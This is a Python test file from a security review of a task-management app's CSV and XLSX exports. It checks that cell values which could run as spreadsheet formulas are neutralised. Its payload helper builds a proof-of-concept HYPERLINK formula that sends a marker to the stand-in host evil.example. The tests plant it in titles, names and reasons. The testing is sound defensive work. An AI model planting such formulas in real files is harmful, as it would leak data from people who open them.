"""H3 (security review 2026-12): no CSV or XLSX export carries a formula.

User text reaches spreadsheet cells: task titles (imported documents), unit and user names
(set by admins) and reasons (written by any member). A cell that begins with `=`, `+`, `-`,
`@`, a tab or a carriage return runs as a formula when the file is opened; openpyxl even
stores a string that begins with `=` as a live formula. Here one value per prefix is
planted in each of those four places, every export of the review's table is fetched
through the web client (and the inspection packs are unzipped), and:

- no XLSX cell is a formula, and each planted value reads back as the exact string;
- each planted value appears in the CSV as `'` followed by the original text, and no CSV
  cell begins with a formula character unless it is a number.

The services strip leading whitespace, so the tab and carriage-return values are written
straight to the rows (and, for titles and reasons, to the audit trail) as the importer or
any future code path could: the writer must not rely on the services to be safe.
"""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from models import BackgroundJob, JobState, Task, Unit, UnitKind, User, db
from reports.tabular import (
    Column,
    append_row,
    csv_table,
    new_workbook,
    to_csv,
    to_xlsx,
    workbook_bytes,
)
from tests.conftest import job_id_of
from tests.foundation.web import login, logout
from tests.ui.support import make_plan
from workflow import audit, clock, directory
from workflow import requests as requests_service
from workflow import users as user_service
from workflow.transaction import unit_of_work

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
STRIPPED = ("\t", "\r")  # what the services' strip() would remove
# One lead unit per prefix; each one's member gets a planted name and writes a reason.
MEMBERS = (
    "tccb.member",
    "cdn.member",
    "gdtrh.member",
    "vps.member",
    "pgd-q1.member",
    "pgd-q3.member",
)
PLAN_NUMBER = "H3/KH-THU"


def payload(prefix: str, where: str, i: int) -> str:
    """The review's proof of concept, starting with `prefix` and unique per place."""
    return f'{prefix}HYPERLINK("http://evil.example/?d={where}{i}","Xem chi tiết")'


@dataclass
class Planted:
    """What was planted where, and the ids and dates the exports are asked for."""

    plan_id: int
    year: int
    date_from: date
    date_to: date
    unit_ids: list[int] = field(default_factory=list)
    titles: list[str] = field(default_factory=list)
    unit_names: list[str] = field(default_factory=list)
    user_names: list[str] = field(default_factory=list)
    reasons: list[str] = field(default_factory=list)

    @property
    def period(self) -> str:
        return f"from={self.date_from:%d/%m/%Y}&to={self.date_to:%d/%m/%Y}"

    def of_unit(self, i: int) -> dict[str, str]:
        return {
            "title": self.titles[i],
            "unit": self.unit_names[i],
            "user": self.user_names[i],
            "reason": self.reasons[i],
        }


def _rename_unit(unit: Unit, name: str, admin: User) -> None:
    if name.startswith(STRIPPED):
        db.session.execute(sa.update(Unit).where(Unit.id == unit.id).values(name=name))
        db.session.commit()
        return
    directory.update_unit(
        unit.id,
        admin,
        name=name,
        kind=UnitKind(unit.kind),
        parent_id=unit.parent_id,
        email=unit.email,
        active=unit.active,
        reason="Đổi tên",
    )


def _rename_user(user: User, name: str, admin: User) -> None:
    if name.startswith(STRIPPED):
        db.session.execute(sa.update(User).where(User.id == user.id).values(full_name=name))
        db.session.commit()
        return
    user_service.update_user(user.id, admin, full_name=name, reason="Đổi tên")


def _force_title(task_id: int, title: str, admin: User) -> None:
    # The year-end report rebuilds titles from the audit trail, so the event carries it too.
    with unit_of_work():
        task = db.session.get(Task, task_id)
        before = task.title
        task.title = title
        audit.record(
            "task.update",
            actor=admin,
            object_type="task",
            object_id=task_id,
            plan_id=task.plan_id,
            before={"title": before},
            after={"title": title},
            reason="Sửa tên",
        )


def _ask_extension(task_id: int, member: User, due: date, reason: str) -> None:
    if not reason.startswith(STRIPPED):
        requests_service.request_extension(
            task_id, member, new_due_on=due + timedelta(days=30), reason=reason
        )
        return
    with unit_of_work():
        audit.record(
            "task.extension_request",
            actor=member,
            object_type="task",
            object_id=task_id,
            plan_id=db.session.get(Task, task_id).plan_id,
            reason=reason,
        )


@pytest.fixture
def planted(demo_app: Flask, users) -> Planted:  # noqa: ANN001
    """A plan of six items, one per prefix: the item's title, its lead unit's name, the
    unit member's name and the member's extension reason all begin with that prefix."""
    admin = users("sgddt.admin")
    today = clock.today()
    due = today + timedelta(days=20)
    members = [users(name) for name in MEMBERS]
    titles = [payload(p, "title", i) for i, p in enumerate(PREFIXES)]
    ids = make_plan(
        users,
        PLAN_NUMBER,
        [(str(i + 1), titles[i], due, m.unit.code) for i, m in enumerate(members)],
    )
    out = Planted(plan_id=ids["plan"], year=due.year, date_from=today, date_to=due)
    for i, prefix in enumerate(PREFIXES):
        task_id, member = ids[str(i + 1)], members[i]
        if prefix in STRIPPED:
            _force_title(task_id, titles[i], admin)
        unit_name, user_name = payload(prefix, "unit", i), payload(prefix, "user", i)
        reason = payload(prefix, "reason", i)
        _rename_unit(member.unit, unit_name, admin)
        _rename_user(member, user_name, admin)
        db.session.expire_all()
        _ask_extension(task_id, db.session.get(User, member.id), due, reason)
        out.unit_ids.append(member.unit_id)
        out.titles.append(titles[i])
        out.unit_names.append(unit_name)
        out.user_names.append(user_name)
        out.reasons.append(reason)
    db.session.expire_all()
    return out


def _client(app: Flask, username: str) -> FlaskClient:
    client = app.test_client()
    login(client, username)
    return client


@pytest.fixture
def fetch(queue_worker):  # noqa: ANN001
    """fetch(client, url): the exported file's bytes. Year-end documents, inspection packs
    and large lists are written by the background worker: follow the job to its file."""

    def get(client: FlaskClient, url: str) -> bytes:
        response = client.get(url)
        if response.status_code == 302 and "/jobs/" in response.headers.get("Location", ""):
            job_id = job_id_of(response)
            job = queue_worker.wait(job_id)
            assert job.state == JobState.DONE, (url, job.message)
            response = client.get(f"/jobs/{job_id}/download")
        assert response.status_code == 200, (url, response.status_code)
        data = response.get_data()
        response.close()  # send_file's handle, or pytest's ResourceWarning turns into an error
        return data

    return get


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_safe(data: bytes, expected: set[str]) -> None:
    """Each planted value is there as `'` + the exact text; no cell starts a formula."""
    text = data.decode("utf-8-sig")
    cells = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
    live = [c for c in cells if c.startswith(PREFIXES) and not _is_number(c)]
    assert live == [], "CSV cells that would run as formulas"
    missing = {v for v in expected if "'" + v not in cells}
    assert missing == set(), "planted values not found, neutralised, in the CSV"


def assert_xlsx_safe(data: bytes, expected: set[str]) -> None:
    """No cell of any sheet is a formula; each planted value reads back as a string."""
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == [], "XLSX cells stored as formulas"
    strings = {c.value for c in cells if c.data_type == "s"}
    assert expected - strings == set(), "planted values not read back as exact strings"


def assert_safe(data: bytes, fmt: str, expected: set[str]) -> None:
    if fmt == "csv":
        assert_csv_safe(data, expected)
    else:
        assert_xlsx_safe(data, expected)


# --- the exports of the review's table, through the web client --------------------------


@pytest.mark.parametrize("in_worker", [False, True], ids=["inline", "worker"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_task_list_export_keeps_titles_and_unit_names_as_text(
    demo_app, planted, fetch, fmt, in_worker
):  # noqa: ANN001
    """H3: /tasks/?format=csv|xlsx, written in the request and, as a large list is, by the
    background worker."""
    if in_worker:
        demo_app.config["EXPORT_INLINE_MAX_ROWS"] = 0
    admin = _client(demo_app, "sgddt.admin")
    data = fetch(admin, f"/tasks/?plan={planted.plan_id}&format={fmt}")
    assert_safe(data, fmt, set(planted.titles) | set(planted.unit_names))
    kinds = db.session.execute(sa.select(BackgroundJob.kind)).scalars().all()
    assert kinds == (["export"] if in_worker else [])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_my_tasks_export_keeps_titles_and_unit_names_as_text(demo_app, planted, fetch, fmt):  # noqa: ANN001
    """H3: /my-tasks?format=csv|xlsx, for the member of each planted lead unit."""
    client = demo_app.test_client()
    for i, username in enumerate(MEMBERS):
        login(client, username)
        data = fetch(client, f"/my-tasks?format={fmt}")
        assert_safe(data, fmt, {planted.titles[i], planted.unit_names[i]})
        logout(client)  # the test's app context keeps the logged-in user otherwise


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_plan_page_export_keeps_titles_and_unit_names_as_text(demo_app, planted, fetch, fmt):  # noqa: ANN001
    """H3: /plans/<id>?format=csv|xlsx."""
    admin = _client(demo_app, "sgddt.admin")
    data = fetch(admin, f"/plans/{planted.plan_id}?format={fmt}")
    assert_safe(data, fmt, set(planted.titles) | set(planted.unit_names))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_matrix_export_keeps_unit_names_as_text(demo_app, planted, fetch, fmt):  # noqa: ANN001
    """H3: /plans/<id>/matrix?format=csv|xlsx."""
    admin = _client(demo_app, "sgddt.admin")
    data = fetch(admin, f"/plans/{planted.plan_id}/matrix?format={fmt}")
    assert_safe(data, fmt, set(planted.unit_names))


def test_year_end_xlsx_of_plan_and_units_has_no_formula(demo_app, planted, fetch):  # noqa: ANN001
    """H3: /plans/<id>/year-end.xlsx and /units/<id>/year-end.xlsx."""
    inspector = _client(demo_app, "sgddt.inspector")
    data = fetch(inspector, f"/plans/{planted.plan_id}/year-end.xlsx?year={planted.year}")
    assert_xlsx_safe(data, set(planted.titles) | set(planted.unit_names))
    for i, unit_id in enumerate(planted.unit_ids):
        data = fetch(inspector, f"/units/{unit_id}/year-end.xlsx?year={planted.year}")
        assert_xlsx_safe(data, {planted.titles[i], planted.unit_names[i]})


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_audit_export_keeps_reasons_and_names_as_text(demo_app, planted, fetch, fmt):  # noqa: ANN001
    """H3: /audit/export.csv|xlsx, by plan and by unit (the unit's name heads the XLSX)."""
    inspector = _client(demo_app, "sgddt.inspector")
    data = fetch(inspector, f"/audit/export.{fmt}?plan={planted.plan_id}")
    assert_safe(data, fmt, set(planted.user_names) | set(planted.reasons))
    for i, unit_id in enumerate(planted.unit_ids):
        data = fetch(inspector, f"/audit/export.{fmt}?unit={unit_id}")
        expected = {planted.user_names[i], planted.reasons[i]}
        if fmt == "xlsx":
            expected.add(planted.unit_names[i])  # the "Thông tin" sheet names the filter
        assert_safe(data, fmt, expected)


def test_inspection_pack_members_have_no_formula(demo_app, planted, fetch):  # noqa: ANN001
    """H3: the plan's and a unit's inspection pack (nhat-ky.csv, nhiem-vu-YYYY.xlsx,
    muc-luc.csv)."""
    inspector = _client(demo_app, "sgddt.inspector")
    packs = [
        (
            f"/plans/{planted.plan_id}/inspection-pack.zip?{planted.period}",
            range(len(PREFIXES)),
        ),
        (f"/units/{planted.unit_ids[0]}/inspection-pack.zip?{planted.period}", [0]),
    ]
    for url, indexes in packs:
        pack = zipfile.ZipFile(io.BytesIO(fetch(inspector, url)))
        trail = {planted.user_names[i] for i in indexes} | {planted.reasons[i] for i in indexes}
        tasks = {planted.titles[i] for i in indexes} | {planted.unit_names[i] for i in indexes}
        assert_csv_safe(pack.read("nhat-ky/nhat-ky.csv"), trail)
        assert_xlsx_safe(pack.read(f"bao-cao-nam/nhiem-vu-{planted.year}.xlsx"), tasks)
        assert_csv_safe(pack.read("muc-luc.csv"), set())


# --- the writer itself -------------------------------------------------------------------


def _columns(n: int) -> list[Column]:
    return [Column(f"c{i}", lambda row, i=i: row[i]) for i in range(n)]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_writer_neutralises_each_formula_prefix(prefix):  # noqa: ANN001
    """H3: a string starting with the prefix is `'`-prefixed in CSV and a string cell in
    XLSX, whatever follows it."""
    values = [prefix + "1+1", payload(prefix, "x", 0), prefix]
    rows = list(
        csv.reader(io.StringIO(to_csv([values], _columns(3)).decode("utf-8-sig"), newline=""))
    )
    assert rows[1] == ["'" + v for v in values]
    sheet = load_workbook(io.BytesIO(to_xlsx([values], _columns(3)))).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [(c.value, c.data_type) for c in cells] == [(v, "s") for v in values]


def test_writer_keeps_numbers_dates_and_ordinary_text():
    """H3: only strings are neutralised; a negative number stays a number, a date a date,
    and text with a formula character further in is written unchanged."""
    day, instant = date(2024, 9, 30), datetime(2024, 9, 30, 2, 15)  # 09:15 in Vietnam
    row = [-5, 2.5, 0, day, instant, None, "Kế hoạch 4403", "a=b", "x-1", "'quoted", "=SUM(1)"]
    header = [f"c{i}" for i in range(len(row))]
    lines = list(csv.reader(io.StringIO(to_csv([row], _columns(len(row))).decode("utf-8-sig"))))
    assert lines == [
        header,
        ["-5", "2.5", "0", "30/09/2024", "30/09/2024 09:15", "", "Kế hoạch 4403", "a=b", "x-1",
         "'quoted", "'=SUM(1)"],
    ]  # fmt: skip
    sheet = load_workbook(io.BytesIO(to_xlsx([row], _columns(len(row))))).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [(c.value, c.data_type) for c in cells[:3]] == [(-5, "n"), (2.5, "n"), (0, "n")]
    assert cells[3].is_date and cells[3].value == datetime(2024, 9, 30)
    assert cells[3].number_format == "dd/mm/yyyy"
    assert cells[4].is_date and cells[4].value == datetime(2024, 9, 30, 9, 15)
    assert cells[4].number_format == "dd/mm/yyyy hh:mm"
    assert cells[5].value is None
    assert [(c.value, c.data_type) for c in cells[6:]] == [
        ("Kế hoạch 4403", "s"), ("a=b", "s"), ("x-1", "s"), ("'quoted", "s"), ("=SUM(1)", "s"),
    ]  # fmt: skip


def test_writer_helpers_for_hand_built_sheets():
    """H3: `append_row` (the year-end and audit workbooks) and `csv_table` (the pack's
    index) neutralise headers and cells alike, and leave numbers alone."""
    book = new_workbook()
    sheet = book.create_sheet("Thử")
    append_row(sheet, ["=Tiêu đề", "-1"])
    append_row(sheet, [-1, "@SUM(1+1)", date(2024, 1, 2), "\r=1+1"])
    read = load_workbook(io.BytesIO(workbook_bytes(book)))["Thử"]
    assert [[(c.value, c.data_type) for c in row] for row in read.iter_rows()] == [
        [("=Tiêu đề", "s"), ("-1", "s"), (None, "n"), (None, "n")],
        [(-1, "n"), ("@SUM(1+1)", "s"), (datetime(2024, 1, 2), "d"), ("\r=1+1", "s")],
    ]
    table = csv_table(["=Tệp", "SHA"], [["+1", -1], ["\tx", "ok"]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(table, newline=""))) == [
        ["'=Tệp", "SHA"],
        ["'+1", "-1"],
        ["'\tx", "ok"],
    ]
